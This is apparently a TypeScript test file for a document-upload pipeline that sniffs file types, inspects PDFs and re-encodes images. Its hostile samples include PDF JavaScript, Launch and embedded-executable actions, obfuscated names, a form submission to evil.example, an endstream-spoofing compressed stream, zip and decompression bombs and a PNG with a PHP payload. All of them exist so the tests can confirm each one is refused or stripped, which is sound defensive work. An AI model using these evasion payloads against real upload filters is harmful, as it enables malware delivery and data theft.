import { test } from '@japa/runner'
import { deflateRawSync, deflateSync, inflateSync } from 'node:zlib'
import sharp from 'sharp'
import { sniffKind } from '#modules/verification/services/documents/content_type'
import { DocumentRefusal } from '#modules/verification/services/documents/errors'
import { reencodeImage } from '#modules/verification/services/documents/image_reencoding'
import { inspectPdf } from '#modules/verification/services/documents/pdf_inspection'
import { prepareDocument } from '#modules/verification/services/documents/preparation'
import {
  EXIF_MARKER,
  jpegBytes,
  objectStream,
  pdfBytes,
  pngBytes,
  pngClaiming,
  pngWithPhpPayload,
} from '#tests/helpers/files'

function adler32(bytes: Buffer): number {
  let a = 1
  let b = 0
  for (const byte of bytes) {
    a = (a + byte) % 65521
    b = (b + a) % 65521
  }
  return ((b << 16) | a) >>> 0
}

/** The refusal reason a call throws, or null when it passes. */
async function refusalOf(run: () => unknown): Promise<string | null> {
  try {
    await run()
    return null
  } catch (error) {
    if (error instanceof DocumentRefusal) return error.reason
    throw error
  }
}

test.group('Documents: type by content', () => {
  test('magic bytes decide, names and headers do not', async ({ assert }) => {
    assert.equal(sniffKind(pdfBytes()), 'pdf')
    assert.equal(sniffKind(await pngBytes()), 'png')
    assert.equal(sniffKind(await jpegBytes()), 'jpeg')
    assert.isNull(sniffKind(Buffer.from('<html><body>facture</body></html>')))
    assert.isNull(sniffKind(Buffer.from('GIF89a')))
    assert.isNull(sniffKind(Buffer.from('  %PDF-1.7')))
    assert.isNull(sniffKind(Buffer.from([0x89, 0x50, 0x4e, 0x47])))
    assert.isNull(sniffKind(Buffer.alloc(0)))
  })

  test('anything else is refused as an unsupported type', async ({ assert }) => {
    assert.equal(
      await refusalOf(() => prepareDocument(Buffer.from('PK\x03\x04zip'))),
      'unsupported_type'
    )
  })
})

test.group('Documents: PDF inspection', () => {
  test('a plain PDF passes', ({ assert }) => {
    assert.doesNotThrow(() => inspectPdf(pdfBytes()))
  })

  test('without %%EOF in its last kilobyte it is incomplete', async ({ assert }) => {
    const pdf = pdfBytes()
    assert.equal(
      await refusalOf(() => inspectPdf(pdf.subarray(0, pdf.length - 10))),
      'pdf_incomplete'
    )
    const padded = Buffer.concat([pdf, Buffer.alloc(2048, 0x20)])
    assert.equal(await refusalOf(() => inspectPdf(padded)), 'pdf_incomplete')
  })

  test('active content is refused, however it is spelt', async ({ assert }) => {
    for (const catalogExtra of [
      '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
      '/OpenAction << /S /Launch /F (calc.exe) >>',
      '/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>',
      '/AcroForm << /XFA 9 0 R >>',
      '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>',
      '/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>',
    ]) {
      assert.equal(
        await refusalOf(() => inspectPdf(pdfBytes({ catalogExtra }))),
        'pdf_active_content',
        catalogExtra
      )
    }
  })

  test('a script hidden in a compressed object stream is found', async ({ assert }) => {
    const hidden = pdfBytes({
      objects: [objectStream(4, '<< /S /JavaScript /JS (app.alert(1)) >>')],
    })
    assert.isFalse(hidden.includes('JavaScript'))
    assert.equal(await refusalOf(() => inspectPdf(hidden)), 'pdf_active_content')
    const harmless = pdfBytes({
      objects: [objectStream(4, '<< /Type /Font /BaseFont /Helvetica >>')],
    })
    assert.isNull(await refusalOf(() => inspectPdf(harmless)))
  })

  test('a stream we cannot decode here is refused rather than let through unread', async ({
    assert,
  }) => {
    const hex = Buffer.from('<< /S /JavaScript /JS (app.alert(1)) >>').toString('hex')
    const hidden = pdfBytes({
      objects: [
        Buffer.from(
          `4 0 obj\n<< /Type /ObjStm /N 1 /First 6 /Filter /ASCIIHexDecode >>\nstream\n${hex}>\nendstream\nendobj\n`,
          'latin1'
        ),
      ],
    })
    assert.equal(await refusalOf(() => inspectPdf(hidden)), 'pdf_unchecked')
  })

  test('streams are read without trusting endstream or /Length', async ({ assert }) => {
    /** zlib data whose first (stored) block says "endstream", the script compressed after it. */
    const visible = Buffer.from(' endstream ', 'latin1')
    const hidden = Buffer.from('5 0 << /S /Launch /F (calc.exe) >>', 'latin1')
    const stored = Buffer.alloc(5)
    stored.writeUInt16LE(visible.length, 1)
    stored.writeUInt16LE(~visible.length & 0xffff, 3)
    const adler = Buffer.alloc(4)
    adler.writeUInt32BE(adler32(Buffer.concat([visible, hidden])))
    const data = Buffer.concat([
      Buffer.from([0x78, 0x9c]),
      stored,
      visible,
      deflateRawSync(hidden),
      adler,
    ])
    assert.equal(
      inflateSync(data).toString('latin1'),
      ' endstream 5 0 << /S /Launch /F (calc.exe) >>'
    )
    const tricky = pdfBytes({
      objects: [
        Buffer.concat([
          Buffer.from(
            '4 0 obj\n<< /Type /ObjStm /N 1 /First 6 /Filter /FlateDecode /Length 3 >>\nstream\n'
          ),
          data,
          Buffer.from('\nendstream\nendobj\n'),
        ]),
      ],
    })
    assert.isFalse(tricky.includes('Launch'))
    assert.equal(await refusalOf(() => inspectPdf(tricky)), 'pdf_active_content')
  })

  test('a zip bomb in a stream is not inflated without end', async ({ assert }) => {
    const bomb = deflateSync(Buffer.alloc(60 * 1024 * 1024))
    const pdf = pdfBytes({
      objects: [
        Buffer.concat([
          Buffer.from('4 0 obj\n<< /Filter /FlateDecode >>\nstream\n'),
          bomb,
          Buffer.from('\nendstream\nendobj\n'),
        ]),
      ],
    })
    assert.isBelow(pdf.length, 5 * 1024 * 1024)
    assert.equal(await refusalOf(() => inspectPdf(pdf)), 'pdf_unchecked')
  })

  test('an encrypted PDF cannot be checked and is refused', async ({ assert }) => {
    const encrypted = pdfBytes({ catalogExtra: '/Encrypt 9 0 R' })
    assert.equal(await refusalOf(() => inspectPdf(encrypted)), 'pdf_encrypted')
  })

  test('a PDF is stored as sent once checked', async ({ assert }) => {
    const pdf = pdfBytes()
    const prepared = await prepareDocument(pdf)
    assert.equal(prepared.contentType, 'application/pdf')
    assert.equal(prepared.extension, 'pdf')
    assert.deepEqual(prepared.bytes, pdf)
  })
})

test.group('Documents: image re-encoding', () => {
  test('EXIF and GPS are gone and the orientation is applied', async ({ assert }) => {
    const photo = await jpegBytes({ width: 80, height: 30, orientation: 6 })
    assert.isTrue(photo.includes(EXIF_MARKER))
    const clean = await reencodeImage(photo, 'jpeg')
    const meta = await sharp(clean).metadata()
    assert.equal(meta.format, 'jpeg')
    assert.deepEqual([meta.width, meta.height], [30, 80])
    assert.isUndefined(meta.exif)
    assert.isUndefined(meta.orientation)
    assert.isFalse(clean.includes(EXIF_MARKER))
  })

  test('a PHP payload in a text chunk or after IEND does not survive', async ({ assert }) => {
    const clean = await reencodeImage(await pngWithPhpPayload(), 'png')
    assert.isFalse(clean.includes('<?php'))
    assert.isFalse(clean.includes(EXIF_MARKER))
    assert.equal((await sharp(clean).metadata()).format, 'png')
  })

  test('the format stays the same', async ({ assert }) => {
    const png = await prepareDocument(await pngBytes())
    assert.equal(png.contentType, 'image/png')
    assert.equal((await sharp(png.bytes).metadata()).format, 'png')
    const jpeg = await prepareDocument(await jpegBytes())
    assert.equal(jpeg.extension, 'jpg')
    assert.equal((await sharp(jpeg.bytes).metadata()).format, 'jpeg')
  })

  test('huge photos are scaled down to fit 4000 pixels', async ({ assert }) => {
    const big = await sharp({
      create: { width: 6000, height: 1000, channels: 3, background: '#888' },
    })
      .jpeg()
      .toBuffer()
    const meta = await sharp(await reencodeImage(big, 'jpeg')).metadata()
    assert.deepEqual([meta.width, meta.height], [4000, 667])
  })

  test('a decompression bomb is refused before decoding; garbage is unreadable', async ({
    assert,
  }) => {
    const bomb = await pngClaiming(20_000, 20_000)
    assert.equal(await refusalOf(() => reencodeImage(bomb, 'png')), 'image_too_large')
    const truncated = (await pngBytes()).subarray(0, 40)
    assert.equal(await refusalOf(() => reencodeImage(truncated, 'png')), 'image_unreadable')
  })
})
